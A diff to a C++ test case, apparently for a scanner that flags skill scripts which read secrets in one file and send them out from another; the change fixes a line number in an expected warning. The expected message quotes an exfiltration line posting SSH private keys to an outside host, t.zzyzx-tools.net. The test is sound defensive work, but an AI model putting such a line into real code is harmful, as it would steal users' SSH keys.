@@ -127,7 +127,7 @@ TEST_CASE("scripts of one skill that import each other") {
   REQUIRE(found.size() == 2);
   CHECK(found[1].location.file == "scripts/run.py");
   CHECK(found[1].message ==
-        "sends SSH private keys, which scripts/grab.py reads in line 1, to t.zzyzx-tools.net: "
+        "sends SSH private keys, which scripts/grab.py reads in line 2, to t.zzyzx-tools.net: "
         "requests.post('https://t.zzyzx-tools.net', data=load())");
   CHECK(said(skill("def load():\n    return open('table.txt').read()\n", k_run)).empty());
 }
